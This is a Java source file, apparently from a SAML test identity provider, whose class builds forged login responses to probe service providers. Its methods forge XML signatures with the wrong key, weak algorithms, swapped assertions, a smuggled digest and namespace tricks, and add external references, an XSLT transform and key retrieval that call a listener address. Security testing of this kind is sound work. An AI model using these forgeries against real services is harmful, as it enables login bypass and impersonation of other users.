package se.byggsten.testidp.attack.internal;

import java.net.URI;
import java.util.Base64;
import javax.crypto.spec.SecretKeySpec;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import se.byggsten.testidp.protocol.internal.AnswerDraft;
import se.byggsten.testidp.protocol.internal.AnswerWriter;
import se.byggsten.testidp.protocol.internal.IdpKey;
import se.byggsten.testidp.protocol.internal.Names;
import se.byggsten.testidp.protocol.internal.Xml;
import se.byggsten.testidp.protocol.internal.XmlEncryption;
import se.byggsten.testidp.protocol.internal.XmlSignatures;

/** Signatures that are missing, somebody else's, too weak or read in two ways. */
final class SignatureForgery {
  private static final String HMAC = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
  private static final String SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1";
  private static final String RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1";
  private static final String ECDSA_SHA1 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1";
  private static final String XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116";

  private SignatureForgery() {}

  static String byStranger(Scene scene) {
    return AnswerWriter.signed(
        scene.encrypted(scene.victim()), XmlSignatures.Maker.of(scene.stranger()));
  }

  static String assertionByStranger(Scene scene) {
    return AnswerWriter.assertionSigned(
        AnswerWriter.unencrypted(scene.victim()), XmlSignatures.Maker.of(scene.stranger()));
  }

  /** By a stranger's key, with the right certificate beside it. */
  static String underRightCertificate(Scene scene) {
    IdpKey stranger = scene.stranger();
    XmlSignatures.Maker own = XmlSignatures.Maker.of(stranger);
    return AnswerWriter.signed(
        scene.encrypted(scene.victim()),
        new XmlSignatures.Maker(
            stranger.privateKey(), scene.key().certificate(), own.method(), own.digest()));
  }

  static String bySibling(Scene scene) {
    return AnswerWriter.signed(
        scene.encrypted(scene.victim()), XmlSignatures.Maker.of(scene.sibling().key()));
  }

  /** All of it is the other identity provider's, but for the request that it answers. */
  static String ofSibling(Scene scene) {
    Scene.Sibling sibling = scene.sibling();
    return AnswerWriter.signed(
        scene.encrypted(
            scene
                .victim()
                .set(AnswerDraft.Part.RESPONSE_ISSUER, sibling.issuer())
                .set(AnswerDraft.Part.ASSERTION_ISSUER, sibling.issuer())),
        XmlSignatures.Maker.of(sibling.key()));
  }

  static String sha1Signature(Scene scene) {
    boolean rsa = "RSA".equals(scene.key().privateKey().getAlgorithm());
    return signedBy(scene, rsa ? RSA_SHA1 : ECDSA_SHA1, Names.SHA256);
  }

  static String sha1Digest(Scene scene) {
    return signedBy(scene, scene.maker().method(), SHA1);
  }

  private static String signedBy(Scene scene, String method, String digest) {
    return AnswerWriter.signed(
        scene.encrypted(scene.draft()),
        new XmlSignatures.Maker(
            scene.key().privateKey(), scene.key().certificate(), method, digest));
  }

  /** The public key as the shared secret: everybody has it. */
  static String hmac(Scene scene) {
    byte[] secret = scene.key().certificate().getPublicKey().getEncoded();
    return AnswerWriter.signed(
        scene.encrypted(scene.victim()),
        new XmlSignatures.Maker(
            new SecretKeySpec(secret, "HmacSHA256"),
            scene.key().certificate(),
            HMAC,
            Names.SHA256));
  }

  /** Signed by a stranger under the right certificate, then algorithm and value are changed. */
  static String rewritten(Scene scene, String method, String value) {
    Document document = Xml.parse(underRightCertificate(scene));
    Element signature = Scene.signatureOf(document.getDocumentElement());
    only(signature, "SignatureMethod").setAttribute("Algorithm", method);
    only(signature, "SignatureValue").setTextContent(value);
    return Xml.write(document);
  }

  static String ecdsaZero(Scene scene) {
    return rewritten(scene, Names.ECDSA_SHA256, Base64.getEncoder().encodeToString(new byte[64]));
  }

  /** The right answer with another person's assertion in it, and the digest of that beside. */
  private static Document swapped(Scene scene) {
    Document document = Xml.parse(scene.right());
    Element right = document.getDocumentElement();
    Element old = Xml.children(right, Names.SAML, "EncryptedAssertion").get(0);
    Element forged =
        Xml.children(
                Xml.parse(scene.encrypted(scene.victim())).getDocumentElement(),
                Names.SAML,
                "EncryptedAssertion")
            .get(0);
    right.replaceChild(document.importNode(forged, true), old);
    return document;
  }

  static String stolen(Scene scene) {
    return Xml.write(swapped(scene));
  }

  static String twoSignedInfos(Scene scene) {
    Document document = swapped(scene);
    Element root = document.getDocumentElement();
    Element info = only(Scene.signatureOf(root), "SignedInfo");
    Element second = (Element) info.cloneNode(true);
    only(second, "DigestValue").setTextContent(Digests.ofSigned(root));
    info.getParentNode().insertBefore(second, info);
    return Xml.write(document);
  }

  static String commentInDigest(Scene scene) {
    Document document = swapped(scene);
    Element root = document.getDocumentElement();
    Element value = only(Scene.signatureOf(root), "DigestValue");
    value.insertBefore(document.createComment(Digests.ofSigned(root)), value.getFirstChild());
    return Xml.write(document);
  }

  /** A digest that stands earlier in the document than the signature's own. */
  static String smuggledDigest(Scene scene) {
    AnswerDraft right = scene.draft();
    Document document = Xml.parse(scene.assertionSigned(right));
    Element original = Scene.assertionOf(document);
    Element signature = Scene.signatureOf(original);
    AnswerDraft victim =
        scene.victim().set(AnswerDraft.Part.ASSERTION_ID, right.get(AnswerDraft.Part.ASSERTION_ID));
    Element forged =
        (Element) document.importNode(Xml.parse(victim.assertion()).getDocumentElement(), true);
    document.getDocumentElement().replaceChild(forged, original);
    String digest = Digests.ofSigned(forged);
    Scene.afterIssuer(forged, signature);
    Element status = Xml.children(document.getDocumentElement(), Names.SAMLP, "Status").get(0);
    Element detail = document.createElementNS(Names.SAMLP, "saml2p:StatusDetail");
    Element smuggled = document.createElementNS(Names.DS, "ds:DigestValue");
    smuggled.setTextContent(digest);
    detail.appendChild(smuggled);
    status.appendChild(detail);
    return Xml.write(document);
  }

  /** Where canonicalization fails, some take nothing for its result: here nothing is signed. */
  static String voidCanonicalization(Scene scene) {
    Document document = Xml.parse(underRightCertificate(scene));
    Element root = document.getDocumentElement();
    Element signature = Scene.signatureOf(root);
    only(signature, "DigestValue").setTextContent(Digests.ofNothing());
    only(signature, "SignatureMethod").setAttribute("Algorithm", scene.maker().method());
    only(signature, "SignatureValue")
        .setTextContent(Digests.signatureOfNothing(scene.key().privateKey()));
    return Xml.write(document)
        .replaceFirst("<saml2p:Response ", "<saml2p:Response xmlns:ns=\"1\" ns:a=\"b\" ");
  }

  /** A second signature whose namespace one parser resolves and another reads as it stands. */
  static String namespaceConfusion(Scene scene) {
    String wrapped = Wrapping.response(scene, 7);
    String decoy =
        "<x:Signature xmlns:x=\"http://www.w3.org/2000/09/xmldsig&#35;\"><x:SignedInfo/>"
            + "</x:Signature>";
    return wrapped.replaceFirst("</saml2:Issuer>", "</saml2:Issuer>" + decoy);
  }

  /** Another person's assertion with the signature of a right one, encrypted by the attacker. */
  static String stolenInEncrypted(Scene scene) {
    AnswerDraft right = scene.draft();
    Document document = Xml.parse(scene.assertionSigned(right));
    Element original = Scene.assertionOf(document);
    AnswerDraft victim =
        scene.victim().set(AnswerDraft.Part.ASSERTION_ID, right.get(AnswerDraft.Part.ASSERTION_ID));
    Element forged =
        (Element) document.importNode(Xml.parse(victim.assertion()).getDocumentElement(), true);
    Scene.afterIssuer(forged, Scene.signatureOf(original));
    document.getDocumentElement().replaceChild(forged, original);
    XmlEncryption.encrypt(
        forged, "EncryptedAssertion", XmlEncryption.Method.of(scene.service()), scene.service());
    return Xml.write(document);
  }

  static String externalReference(Scene scene) {
    Document document = Xml.parse(byStranger(scene));
    only(Scene.signatureOf(document.getDocumentElement()), "Reference")
        .setAttribute("URI", place(scene, "reference"));
    return Xml.write(document);
  }

  static String transform(Scene scene) {
    Document document = Xml.parse(byStranger(scene));
    Element transforms = only(Scene.signatureOf(document.getDocumentElement()), "Transforms");
    Element transform = document.createElementNS(Names.DS, "ds:Transform");
    transform.setAttribute("Algorithm", XSLT);
    transform.appendChild(
        document.importNode(
            Xml.parse(stylesheet(scene.listener(), "transform")).getDocumentElement(), true));
    transforms.insertBefore(transform, transforms.getFirstChild());
    return Xml.write(document);
  }

  static String keyToFetch(Scene scene) {
    Document document = Xml.parse(byStranger(scene));
    Element info = only(Scene.signatureOf(document.getDocumentElement()), "KeyInfo");
    info.setTextContent("");
    Element method = document.createElementNS(Names.DS, "ds:RetrievalMethod");
    method.setAttribute("URI", place(scene, "key"));
    method.setAttribute("Type", "http://www.w3.org/2000/09/xmldsig#rawX509Certificate");
    info.appendChild(method);
    return Xml.write(document);
  }

  /** A style sheet that asks at our address when it is carried out. */
  static String stylesheet(URI listener, String what) {
    return """
        <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\
        <xsl:template match="/"><xsl:copy-of select="document('%s%s')"/></xsl:template>\
        </xsl:stylesheet>"""
        .formatted(listener, what);
  }

  static String place(Scene scene, String what) {
    return scene.listener() + what;
  }

  private static Element only(Element parent, String name) {
    return Xml.all(parent, Names.DS, name).get(0);
  }
}
